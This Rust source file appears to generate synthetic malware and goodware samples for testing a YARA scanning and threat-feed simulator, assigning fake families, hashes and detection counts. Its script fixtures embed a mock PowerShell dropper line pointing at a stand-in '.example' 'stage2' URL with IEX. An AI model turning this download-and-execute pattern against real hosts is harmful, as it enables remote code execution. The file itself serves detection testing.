//! The files: their bytes, and what is known about them.
//!
//! Of every eight samples four are PE, one ELF, one PDF, one script, and one in turn a ZIP archive or an old Office
//! document. Two of three PE files carry `SIMULATED-LOADER`; scripts carry `SIM-DROPPER`, every second ELF `SIMBOT` and
//! every second PDF `SIM-PHISH`. The rest is harmless and makes up the goodware corpus.

use std::sync::{Arc, OnceLock};

use md5::Md5;
use sha1::Sha1;
use sha2::{Digest, Sha256};

use super::engines;
use super::file_object;
use super::rng::Rng;
use crate::shared::hex;
use crate::yara::{self, Facts, FileFacts};

/// What kind of file a sample is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    Pe,
    Elf,
    Pdf,
    Script,
    Zip,
    Office,
}

/// One made-up file.
#[derive(Debug)]
pub(crate) struct Sample {
    pub(crate) bytes: Vec<u8>,
    pub(crate) kind: Kind,
    pub(crate) sha256: String,
    pub(crate) facts: Facts,
    attributes: OnceLock<Arc<str>>,
    seed: u64,
}

impl Sample {
    /// The attributes of its file object, as JSON text of 14 to 28 KB.
    pub(crate) fn attributes(&self) -> Arc<str> {
        self.attributes.get_or_init(|| file_object::build(self, self.seed).to_string().into()).clone()
    }

    pub(crate) fn file(&self) -> &FileFacts {
        self.facts.file.as_ref().expect("every sample is a file")
    }

    /// The facts as they are the first time the feed brings it, or later.
    pub(crate) fn facts_in_feed(&self, first_time: bool) -> Facts {
        let mut facts = self.facts.clone();
        if let Some(file) = &mut facts.file {
            file.new_file = first_time;
        }
        facts
    }
}

/// Sample number `index` of `count`.
pub(super) fn make(index: usize, count: usize, start_time: u64) -> Sample {
    let mut rng = Rng::new(index as u64);
    let kind = match index % 8 {
        0..=3 => Kind::Pe,
        4 => Kind::Elf,
        5 => Kind::Pdf,
        6 => Kind::Script,
        _ if index % 16 == 7 => Kind::Zip,
        _ => Kind::Office,
    };
    let round = index / 8;
    let family = match kind {
        Kind::Pe => ["alphaloader", "betastealer", ""][(index / 8 * 4 + index % 8) % 3],
        Kind::Elf if round.is_multiple_of(2) => "gammabot",
        Kind::Pdf if round.is_multiple_of(2) => "deltaphish",
        Kind::Script => "epsilondropper",
        _ => "",
    };
    let bytes = content(kind, family, index, &mut rng);
    let (extension, type_tag, file_type, magic, mime) = description(kind);
    let sha256 = hex(&Sha256::digest(&bytes));
    let malicious = if family.is_empty() { 0 } else { 22 + rng.below(35) as i64 };
    // Ninety days of submissions, the highest numbers most recent. Every sixteenth is an old one that was sent again: long
    // known, and last submitted when its number says.
    let age = (count - index) as u64 * (90 * 86_400 / count.max(1) as u64);
    let known_for = if index % 16 == 3 { 400 * 86_400 } else { 0 };
    let first_submission = start_time - (age + known_for).min(start_time);
    let mut tags = vec![type_tag.to_owned()];
    tags.extend((0..2 + rng.below(4)).map(|_| rng.pick(TAGS).to_owned()));
    tags.dedup();
    let facts = FileFacts {
        name: format!("{}.{extension}", rng.word(3)),
        size: bytes.len(),
        file_type: yara::file_type(file_type),
        type_tags: vec![category(kind).to_owned(), type_tag.to_owned()],
        md5: hex(&Md5::digest(&bytes)),
        sha1: hex(&Sha1::digest(&bytes)),
        sha256: sha256.clone(),
        new_file: false,
        malicious,
        undetected: engines::FILE_ENGINES.len() as i64 - malicious - 4,
        unsupported: 4,
        first_submission,
        last_submission: (first_submission + known_for + rng.below(age / 2 + 1)).min(start_time),
        times_submitted: 1 + rng.below(900) as i64,
        unique_sources: 1 + rng.below(300) as i64,
        tags,
        signatures: engines::signatures(family, malicious as usize),
        country: rng.pick(&["LT", "OI", "DS", "BR", "IN", "ES", "US"]).to_owned(),
        goodware: family.is_empty(),
        family: family.to_owned(),
        vhash: rng.hex(32),
    };
    let facts = Facts { file: Some(facts), net: None, magic: (magic.to_owned(), mime.to_owned()) };
    Sample { bytes, kind, sha256, facts, attributes: OnceLock::new(), seed: index as u64 }
}

const TAGS: &[&str] =
    &["detect-debug-environment", "long-sleeps", "checks-user-input", "overlay", "runtime-modules", "64bits", "signed"];

/// Extension, type tag, name in `vt.FileType`, magic, media type.
fn description(kind: Kind) -> (&'static str, &'static str, &'static str, &'static str, &'static str) {
    match kind {
        Kind::Pe => {
            ("exe", "peexe", "PE_EXE", "PE32 executable (GUI) Intel 80386, for MS Windows", "application/x-dosexec")
        }
        Kind::Elf => {
            ("elf", "elf", "ELF", "ELF 64-bit LSB executable, x86-64, version 1 (SYSV)", "application/x-executable")
        }
        Kind::Pdf => ("pdf", "pdf", "PDF", "PDF document, version 1.7", "application/pdf"),
        Kind::Script => ("ps1", "powershell", "POWERSHELL", "ASCII text, with CRLF line terminators", "text/plain"),
        Kind::Zip => ("zip", "zip", "ZIP", "Zip archive data, at least v2.0 to extract", "application/zip"),
        Kind::Office => {
            ("doc", "doc", "DOC", "Composite Document File V2 Document, Little Endian", "application/msword")
        }
    }
}

fn category(kind: Kind) -> &'static str {
    match kind {
        Kind::Pe | Kind::Elf => "executable",
        Kind::Pdf | Kind::Office => "document",
        Kind::Script => "source",
        Kind::Zip => "compressed",
    }
}

fn content(kind: Kind, family: &str, index: usize, rng: &mut Rng) -> Vec<u8> {
    let marked = !family.is_empty();
    let mut bytes = match kind {
        Kind::Pe => pe(family, rng),
        Kind::Elf => {
            let mut bytes = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
            bytes.resize(64, 0);
            bytes[52] = 64;
            if marked {
                bytes.extend_from_slice(b"/bin/busybox SIMBOT\0GET /arm7 HTTP/1.0\0");
            }
            bytes
        }
        Kind::Pdf => {
            let action = if marked { "/OpenAction << /S /JavaScript /JS (SIM-PHISH) >>" } else { "/Lang (en)" };
            format!("%PDF-1.7\n1 0 obj\n<< /Type /Catalog {action} >>\nendobj\n").into_bytes()
        }
        Kind::Script => {
            let host = rng.word(3);
            format!("# SIM-DROPPER\r\n$u = 'https://{host}.example/stage2'\r\nIEX (New-Object Net.WebClient)\r\n")
                .into_bytes()
        }
        Kind::Zip => b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\x20\0\0\0\x20\0\0\0\x09\0\0\0readme.md".to_vec(),
        Kind::Office => b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Word.Document.8\0".to_vec(),
    };
    bytes.extend_from_slice(format!("\nsample {index:06} {}\n", rng.word(4)).as_bytes());
    let filler = 1_200 + rng.below(3_000) as usize;
    if matches!(kind, Kind::Script | Kind::Pdf) {
        while bytes.len() < filler {
            bytes.extend_from_slice(format!("% {} {}\r\n", rng.word(4), rng.hex(24)).as_bytes());
        }
    } else {
        let noise = rng.bytes(filler);
        bytes.extend_from_slice(&noise);
    }
    if kind == Kind::Pdf {
        bytes.extend_from_slice(b"\n%%EOF\n");
    }
    bytes
}

/// A PE file small enough to make up and whole enough for the `pe` module: headers and one section.
fn pe(family: &str, rng: &mut Rng) -> Vec<u8> {
    let mut bytes = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
    bytes.resize(0x3c, 0);
    bytes.extend_from_slice(&0x80u32.to_le_bytes());
    bytes.extend_from_slice(b"This program cannot be run in DOS mode.\r\r\n$");
    bytes.resize(0x80, 0);
    bytes.extend_from_slice(b"PE\0\0\x4c\x01\x01\0");
    let timestamp = 1_500_000_000 + rng.below(250_000_000) as u32;
    bytes.extend_from_slice(&timestamp.to_le_bytes());
    // No symbols; an optional header of 224 bytes; a 32-bit executable image.
    bytes.extend_from_slice(b"\0\0\0\0\0\0\0\0\xe0\0\x02\x01");
    let optional = bytes.len();
    bytes.resize(optional + 0xe0, 0);
    let mut put = |offset: usize, value: u32| {
        bytes[optional + offset..optional + offset + 4].copy_from_slice(&value.to_le_bytes());
    };
    put(0, 0x0e00_010b); // PE32, linker 14
    put(16, 0x1000); // entry point
    put(28, 0x0040_0000); // image base
    put(32, 0x1000); // section alignment
    put(36, 0x200); // file alignment
    put(48, 6); // subsystem version
    put(56, 0x3000); // size of image
    put(60, 0x200); // size of headers
    put(68, 2); // GUI
    put(92, 16); // data directories
    bytes.extend_from_slice(b".text\0\0\0\0\x10\0\0\0\x10\0\0\0\x04\0\0\0\x02\0\0");
    bytes.extend_from_slice(b"\0\0\0\0\0\0\0\0\0\0\0\0\x20\0\0\x60");
    bytes.resize(0x200, 0);
    if !family.is_empty() {
        let padding = 24 + rng.below(100) as usize;
        let noise = rng.bytes(padding);
        bytes.extend_from_slice(&noise);
        bytes.extend_from_slice(format!("SIMULATED-LOADER family={family}\0").as_bytes());
    }
    bytes.extend_from_slice(b"kernel32.dll\0VirtualAlloc\0CreateRemoteThread\0");
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn samples_are_the_same_every_time_and_differ_from_each_other() {
        let (a, b) = (make(5, 100, 1_760_000_000), make(5, 100, 1_760_000_000));
        assert_eq!(a.bytes, b.bytes);
        assert_eq!(a.sha256, b.sha256);
        assert_ne!(a.sha256, make(6, 100, 1_760_000_000).sha256);
    }

    #[test]
    fn the_pe_module_of_the_engine_reads_the_pe_samples() {
        let rules = "import \"pe\" rule a { condition: pe.is_pe and pe.number_of_sections == 1 }";
        let rules = yara::compile(rules, yara::Hunt::Livehunt).expect("valid");
        let sample = make(0, 100, 1_760_000_000);
        assert_eq!(rules.scan(&sample.bytes, &sample.facts).len(), 1);
    }

    #[test]
    fn file_objects_are_as_large_as_real_ones() {
        let sizes: Vec<usize> = (0..40).map(|index| make(index, 240, 1_760_000_000).attributes().len()).collect();
        let total: usize = sizes.iter().sum();
        assert!(sizes.iter().all(|size| (13_500..28_000).contains(size)), "{sizes:?}");
        assert!((720_000..830_000).contains(&total), "a page of 40 has {total} bytes");
    }
}
